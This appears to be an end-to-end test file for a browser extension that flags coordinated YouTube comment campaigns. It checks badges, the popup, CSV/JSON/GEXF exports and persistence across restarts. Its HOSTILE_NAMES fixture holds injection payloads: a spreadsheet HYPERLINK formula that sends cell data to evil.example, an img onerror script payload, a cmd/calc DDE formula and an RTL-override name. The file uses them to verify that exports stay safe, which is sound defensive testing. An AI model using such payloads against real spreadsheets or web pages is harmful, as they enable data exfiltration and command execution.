@@ -1,0 +1,202 @@
+// The journalist's workflow in real Chromium on the built-in demo thread (a real YouTube snapshot with a
+// simulated campaign) and on a thread whose commenters have hostile names: badges, popup, exports,
+// labels, and a case that survives a browser restart.
+import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { injectIntoNextResponse } from '../../src/demo/youtube-next.ts';
+import { demoWatchPageHtml } from '../../src/demo/youtube-page.ts';
+import { sharedPath } from '../helpers/shared.ts';
+import { parseXmlTags } from '../helpers/xml.ts';
+import { demoFixtureAvailable, loadDemo } from './demo-fixture.ts';
+import { eventually, launchWithExtension, type LensBrowser } from './harness.ts';
+import type { DemoSite } from '../../src/demo/demo-site.ts';
+import type { Page } from 'playwright-core';
+
+const HOSTILE_NAMES = [
+  '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  '<img src=x onerror="document.title=\'pwned\'">',
+  'محمد‮ الأحمد',
+  '+SUM(1+1)*cmd|" /C calc"!A0',
+  '-2+3',
+];
+const HOSTILE_TEXT = 'Wake up! The truth about the western media lies is here #StopTheLies https://example.org/truth';
+
+/** A second thread (another video id) whose campaign accounts carry hostile display names. */
+function hostileSite(): { url: string; respond: DemoSite['respond']; handles: string[] } {
+  const snapshot = JSON.parse(readFileSync(sharedPath('fixtures/pages/youtube/yt_next_comments_page1_QqsLTNkzvaY_de-DE.json'), 'utf8'));
+  const videoId = 'QqsLTNkzvaY';
+  const injected = HOSTILE_NAMES.map((displayName, i) => ({
+    at: 1 + i * 2,
+    comment: {
+      commentId: `UgzHostile${i}xxxxxxxxxxxxxxx4AaABAg`,
+      channelId: `UC${String(i).repeat(2)}hostileChannelIdxx${i}`.slice(0, 24).padEnd(24, 'x'),
+      handle: `truthseeker${48213 + i}`,
+      displayName,
+      text: HOSTILE_TEXT,
+      avatarUrl: `https://yt3.ggpht.com/hostile-${i}=s88-c-k-c0x00ffffff-no-rj`,
+      publishedTime: '5 minutes ago',
+      likes: 0,
+    },
+  }));
+  const response = JSON.stringify(injectIntoNextResponse(snapshot, injected));
+  const page = demoWatchPageHtml({ videoId, title: 'Thread with hostile names', banner: 'Test thread with a SIMULATED campaign' });
+  return {
+    url: `https://www.youtube.com/watch?v=${videoId}`,
+    handles: injected.map((x) => x.comment.handle),
+    respond(url, method = 'GET') {
+      const parsed = new URL(url);
+      if (parsed.searchParams.get('v') !== videoId) return null;
+      if (parsed.hostname === 'www.youtube.com' && parsed.pathname === '/watch') return { contentType: 'text/html', body: page };
+      if (parsed.pathname === '/youtubei/v1/next' && method === 'POST') return { contentType: 'application/json', body: response };
+      return null;
+    },
+  };
+}
+
+async function waitForReady(lens: LensBrowser, page: Page) {
+  const tabId = await lens.tabIdOf(page);
+  const view = await eventually(
+    () => lens.background((l, id: number) => l.tabView(id), tabId),
+    (v: any) => v.state === 'ready',
+    'the thread to be analysed',
+    90_000,
+  );
+  return { tabId, view: view as any };
+}
+
+const badgeAuthors = (page: Page) =>
+  page.$$eval('amplifier-lens-badge', (hosts) =>
+    hosts.map((host) => host.closest('ytd-comment-view-model')?.querySelector('#author-text')?.textContent?.trim() ?? '?'),
+  );
+
+describe.skipIf(!demoFixtureAvailable())('journalist workflow in Chromium', () => {
+  let lens: LensBrowser;
+  let demo: DemoSite;
+  let hostile: ReturnType<typeof hostileSite>;
+
+  beforeAll(async () => {
+    demo = await loadDemo();
+    hostile = hostileSite();
+    lens = await launchWithExtension();
+    await lens.serve((url, method) => demo.respond(url, method) ?? hostile.respond(url, method));
+    await lens.background((l, accounts: string[]) => l.markSimulated('youtube', 'xaQJbozY_Is', accounts), demo.simulatedAccountIds);
+  });
+
+  afterAll(async () => {
+    await lens?.close();
+  });
+
+  it('puts badges beside the campaign authors only, and removes every one on toggle', async () => {
+    const page = await lens.context.newPage();
+    await page.goto(demo.url);
+    const { tabId, view } = await waitForReady(lens, page);
+    const flagged = view.accounts.filter((a: any) => a.level === 'high' || a.level === 'medium');
+    expect(flagged.length).toBeGreaterThanOrEqual(3);
+
+    await page.waitForFunction(() => document.querySelectorAll('amplifier-lens-badge').length > 0, undefined, { timeout: 30_000 });
+    const authors = await badgeAuthors(page);
+    const simulatedHandles = new Set(demo.simulatedHandles.map((h) => (h.startsWith('@') ? h : `@${h}`)));
+    expect(authors.length).toBeGreaterThanOrEqual(flagged.length);
+    expect(authors.filter((a) => !simulatedHandles.has(a))).toEqual([]);
+    // Badges live in closed shadow roots: the page cannot read into them.
+    expect(await page.$eval('amplifier-lens-badge', (host) => host.shadowRoot)).toBeNull();
+
+    const popup = await lens.openPopup(tabId);
+    await expect.poll(() => popup.locator('main').getAttribute('data-state'), { timeout: 30_000 }).toBe('ready');
+    await popup.getByRole('checkbox', { name: 'Show badges on this site' }).uncheck();
+    await expect.poll(() => page.locator('amplifier-lens-badge').count(), { timeout: 10_000 }).toBe(0);
+    await popup.getByRole('checkbox', { name: 'Show badges on this site' }).check();
+    await expect.poll(() => page.locator('amplifier-lens-badge').count(), { timeout: 10_000 }).toBe(authors.length);
+    await popup.close();
+    await page.close();
+  });
+
+  it('shows the thread summary in the popup and scrolls the page to a flagged comment', async () => {
+    const page = await lens.context.newPage();
+    await page.goto(demo.url);
+    const { tabId, view } = await waitForReady(lens, page);
+    const popup = await lens.openPopup(tabId);
+    await expect.poll(() => popup.locator('main').getAttribute('data-state'), { timeout: 30_000 }).toBe('ready');
+    const text = await popup.locator('main').innerText();
+    expect(text).toContain(`${view.summary.comments}`);
+    expect(text).toMatch(/SIMULATED campaign/);
+    expect(text).toMatch(/Flagged accounts/i);
+    await popup.screenshot({ path: '/tmp/amplifier-lens-popup.png' });
+
+    const before = await page.evaluate(() => window.scrollY);
+    await popup.getByRole('button', { name: 'Show comment' }).last().click();
+    await expect.poll(() => page.evaluate(() => window.scrollY), { timeout: 10_000 }).not.toBe(before);
+    await popup.close();
+    await page.close();
+  });
+
+  it('exports spreadsheet-safe CSV, JSON and GEXF that keep hostile names as text', async () => {
+    const page = await lens.context.newPage();
+    await page.goto(hostile.url);
+    const { tabId, view } = await waitForReady(lens, page);
+    expect(await page.title()).not.toBe('pwned');
+    const flaggedIds = view.accounts.filter((a: any) => a.level === 'high' || a.level === 'medium').map((a: any) => a.accountId);
+    expect(flaggedIds.length).toBe(HOSTILE_NAMES.length);
+
+    const popup = await lens.openPopup(tabId);
+    await expect.poll(() => popup.locator('main').getAttribute('data-state'), { timeout: 30_000 }).toBe('ready');
+    const download = async (name: string) => {
+      const [file] = await Promise.all([popup.waitForEvent('download'), popup.getByRole('button', { name }).click()]);
+      return readFileSync((await file.path())!, 'utf8');
+    };
+
+    const csv = await download('Thread CSV');
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    const rows = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true }).data;
+    expect(rows).toHaveLength(HOSTILE_NAMES.length);
+    const cells = rows.flatMap((row) => Object.values(row));
+    expect(cells.some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
+    expect(cells).toContain(`'${HOSTILE_NAMES[0]}`);
+    expect(cells).toContain(HOSTILE_NAMES[1]);
+    expect(cells).toContain(HOSTILE_NAMES[2]);
+
+    const json = JSON.parse(await download('Thread JSON'));
+    expect(json.schema).toBe('amplifier-lens/case@1');
+    expect(json.accounts.map((a: any) => a.displayName).sort()).toEqual([...HOSTILE_NAMES].sort());
+    expect(json.accounts.every((a: any) => a.reasons.length > 0)).toBe(true);
+
+    const gexf = await download('Thread graph (GEXF)');
+    const labels = parseXmlTags(gexf).filter((tag) => tag.name === 'node').map((tag) => tag.attributes.label);
+    expect(labels).toEqual(expect.arrayContaining([HOSTILE_NAMES[1], HOSTILE_NAMES[2]].map((n) => expect.stringContaining(n))));
+    await popup.close();
+    await page.close();
+  });
+
+  it('keeps the case across a browser restart, and a dismissed account stays unflagged after reload', async () => {
+    const profileDir = lens.profileDir;
+    const page = await lens.context.newPage();
+    await page.goto(demo.url);
+    const { view } = await waitForReady(lens, page);
+    const target = view.accounts.find((a: any) => a.level === 'high' || a.level === 'medium');
+    const popup = await lens.openPopup(await lens.tabIdOf(page));
+    await popup.evaluate((id) => chrome.runtime.sendMessage({ type: 'set-label', platform: 'youtube', accountId: id, label: 'dismissed' }), target.accountId);
+    await popup.close();
+    await page.close();
+    await lens.close({ keepProfile: true });
+
+    lens = await launchWithExtension({ profileDir });
+    await lens.serve((url, method) => demo.respond(url, method) ?? hostile.respond(url, method));
+    const stored = await lens.background(async (l) => {
+      const threads = await l.store.threads();
+      const accounts = await l.cases.verdicts();
+      return { threads: threads.map((t: any) => t.key), accounts: accounts.map((a: any) => ({ id: a.accountId, level: a.level, label: a.label })) };
+    });
+    expect(stored.threads).toEqual(expect.arrayContaining(['youtube:xaQJbozY_Is', 'youtube:QqsLTNkzvaY']));
+    const dismissed = stored.accounts.find((a: any) => a.id === target.accountId);
+    expect(dismissed).toMatchObject({ label: 'dismissed' });
+    expect(['high', 'medium']).not.toContain(dismissed.level);
+
+    const again = await lens.context.newPage();
+    await again.goto(demo.url);
+    await waitForReady(lens, again);
+    await again.waitForFunction(() => document.querySelectorAll('amplifier-lens-badge').length > 0, undefined, { timeout: 30_000 });
+    const authors = await badgeAuthors(again);
+    expect(authors).not.toContain(target.handle.startsWith('@') ? target.handle : `@${target.handle}`);
+  });
+});
